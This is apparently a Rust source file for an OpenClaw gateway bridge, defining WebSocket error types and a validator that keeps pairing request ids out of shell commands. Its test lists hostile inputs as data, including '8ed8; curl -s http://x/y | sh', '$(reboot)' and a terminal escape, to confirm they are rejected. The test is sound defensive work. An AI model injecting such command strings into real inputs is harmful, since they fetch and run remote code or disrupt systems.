//! What can go wrong on the WebSocket backend: the connection (it cannot be opened, the upgrade
//! is refused, it drops), the handshake (protocol version, token, pairing, scopes) and the
//! gateway's own error frames (`{"code","message","details":{"code"}}`, branched on the codes,
//! never on the words). These texts reach the user as tool errors and `openclaw_status`
//! messages; none may contain a token.

/// The gateway command that approves a pending device, as its owner types it.
pub fn approve_command(request_id: &str) -> String {
    format!("openclaw devices approve {request_id}")
}

/// A pairing request id the gateway sent, if it looks like one (1 to 64 ASCII letters, digits
/// and `-`: the gateway's are UUIDs). It ends up in a command the owner is told to run in a
/// shell, so anything else (a `;`, a space, a terminal escape from a hostile or spoofed gateway)
/// is dropped, and the bridge falls back to pointing at `openclaw devices list`.
pub fn request_id(raw: &str) -> Option<String> {
    let ok = (1..=64).contains(&raw.len())
        && raw.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
    ok.then(|| raw.to_string())
}

/// A failure of the WebSocket backend.
#[derive(Debug, Clone, thiserror::Error, PartialEq, Eq)]
pub enum WsError {
    /// No TCP/TLS connection could be made.
    #[error("cannot connect to the OpenClaw gateway at {url}: {cause}")]
    Connect {
        /// The gateway's URL (credentials masked).
        url: String,
        /// What the network stack said.
        cause: String,
    },
    /// The server answered the upgrade with something else than `101`: not an OpenClaw gateway,
    /// or a proxy in front of it that does not pass WebSockets.
    #[error("{url} does not accept OpenClaw's WebSocket protocol ({reason})")]
    NotWebSocket {
        /// The gateway's URL (credentials masked).
        url: String,
        /// The answer instead of the upgrade.
        reason: String,
    },
    /// The gateway speaks another protocol version.
    #[error(
        "protocol mismatch: this bridge speaks OpenClaw gateway protocol {ours}, the gateway expects {theirs}"
    )]
    Protocol {
        /// The version this bridge speaks.
        ours: u32,
        /// What the gateway said it expects.
        theirs: String,
    },
    /// The gateway refused the credentials (shared token, device token).
    #[error("the gateway refused this bridge's credentials: {0}")]
    Auth(String),
    /// The device is not (or no longer) paired with the gateway.
    #[error("{}", pairing_text(request_id.as_deref(), message))]
    PairingRequired {
        /// The pending request the owner approves, if the gateway made one.
        request_id: Option<String>,
        /// The gateway's words.
        message: String,
    },
    /// Connected, but without the scopes the bridge needs (a remote connection without a paired
    /// device keeps none).
    #[error(
        "the gateway granted this connection the scopes [{}], not operator.read and operator.write: a remote gateway needs this bridge's device paired (run `openclaw-mcp pair`)",
        granted.join(", ")
    )]
    MissingScopes {
        /// What `hello-ok` granted.
        granted: Vec<String>,
    },
    /// The gateway answered a request with an error frame.
    #[error("{message}")]
    Gateway {
        /// `error.code` (`INVALID_REQUEST`, `FORBIDDEN`, `UNAVAILABLE`, …).
        code: String,
        /// `error.details.code`, when given (`MISSING_SCOPE`, `AUTH_TOKEN_MISMATCH`, …).
        detail: Option<String>,
        /// The gateway's words, made fit for a tool result.
        message: String,
    },
    /// The connection dropped (or was never up) while the request waited.
    #[error("the WebSocket connection to the gateway was lost: {0}")]
    Disconnected(String),
    /// No answer within the deadline.
    #[error("the gateway did not answer {method} within {ms} ms")]
    Timeout {
        /// The method asked.
        method: String,
        /// The deadline.
        ms: u64,
    },
    /// A frame the bridge would send is over the gateway's limit; nothing was sent.
    #[error(
        "the request is {size} bytes, over the gateway's limit of {limit} bytes; nothing was sent"
    )]
    TooLarge {
        /// Bytes of the frame.
        size: usize,
        /// The gateway's limit.
        limit: usize,
    },
    /// The gateway is not reading what the bridge sends: too much already waits to go out.
    #[error(
        "the gateway is not reading what this bridge sends ({queued} bytes are waiting to go out); nothing was sent"
    )]
    Backlog {
        /// Bytes waiting.
        queued: usize,
    },
    /// Something the gateway sent that the protocol does not allow.
    #[error("unexpected answer from the gateway: {0}")]
    Invalid(String),
    /// The device identity cannot be read or written.
    #[error("device identity: {0}")]
    Identity(String),
}

fn pairing_text(request_id: Option<&str>, message: &str) -> String {
    match request_id {
        Some(id) => format!(
            "pairing required: this bridge's device is not approved by the gateway yet; its owner approves it with `{}` (then the bridge connects by itself; `openclaw-mcp pair` waits for it)",
            approve_command(id)
        ),
        None => format!(
            "pairing required: {message}; run `openclaw-mcp pair` and have the gateway's owner approve the pending request (`openclaw devices list` shows it)"
        ),
    }
}

impl WsError {
    /// Whether retrying soon cannot help: only a person can change it (a token, an approval,
    /// another bridge version). The connection is retried slowly then, never in a tight loop.
    pub fn needs_a_person(&self) -> bool {
        matches!(
            self,
            WsError::Protocol { .. }
                | WsError::Auth(_)
                | WsError::PairingRequired { .. }
                | WsError::MissingScopes { .. }
                | WsError::Identity(_)
        )
    }

    /// Whether the gateway simply does not speak the protocol here (auto falls back to HTTP at
    /// once, without waiting).
    pub fn is_unsupported(&self) -> bool {
        matches!(self, WsError::NotWebSocket { .. })
    }

    /// `details.code` of a gateway error, if any.
    pub fn detail(&self) -> Option<&str> {
        match self {
            WsError::Gateway { detail, .. } => detail.as_deref(),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_a_plain_request_id_reaches_the_approve_command() {
        assert_eq!(
            request_id("8ed899ee-1c2d-4e5f-a6b7-c8d9e0f1a2b3").as_deref(),
            Some("8ed899ee-1c2d-4e5f-a6b7-c8d9e0f1a2b3")
        );
        for hostile in [
            "",
            "8ed8; curl -s http://x/y | sh",
            "a b",
            "id\u{1b}[2K",
            "$(reboot)",
            "x\n",
            &"a".repeat(65),
        ] {
            assert_eq!(request_id(hostile), None, "{hostile:?}");
        }
        let text = WsError::PairingRequired {
            request_id: request_id("8ed8; curl -s http://x/y | sh"),
            message: "pairing required".into(),
        }
        .to_string();
        assert!(
            !text.contains("curl") && text.contains("openclaw devices list"),
            "{text}"
        );
    }
}
